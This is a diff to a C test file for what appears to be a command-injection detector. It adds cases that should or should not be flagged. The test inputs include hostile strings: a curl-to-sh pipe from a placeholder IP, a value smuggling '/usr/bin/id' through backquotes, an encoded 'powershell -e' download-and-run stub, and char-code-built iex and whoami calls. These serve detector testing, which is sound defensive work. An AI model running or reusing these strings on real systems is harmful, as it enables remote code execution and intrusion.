@@ -155,6 +155,7 @@ static void values_alone(void)
     STRONG("ps aux; id", "sh:;id");
     STRONG("ls x && curl http://203.0.113.5/a | sh", "curl");
     STRONG("x y | grep root", NULL);        /* not a command first */
+    STRONG("x y\nWhere is x;`ed&quot;/usr/bin/id;", "sh:;id");  /* `ed` first */
     /* a URL's query: "&name=value" is a parameter, not an assignment */
     NONE("https://translate.google.com/?sl=auto&tl=de&text=git reset --hard HEAD~1&op=translate");
     NONE("https://example.net/index.php?graphql&query=query Product($handle: String!) { x }");
@@ -283,6 +284,7 @@ static void powershell(void)
     /* a name spelled in code points, escaped with backquotes, found by a
      * pattern; Windows paths and variables that name cmd.exe */
     STRONG("powershell [char]105+[char]100", "ps:[char]+");
+    STRONG("powershell.exe -e SQBFAFgAIAAoAGkAdwByACkA", "ps:powershell.exe");
     STRONG(";iex ([char]119+[char]104+[char]111)", "ps:");
     STRONG("&([char]105 + [char]101 + [char]120)", "ps:[char]+");
     NONE("[char]65 in powershell");
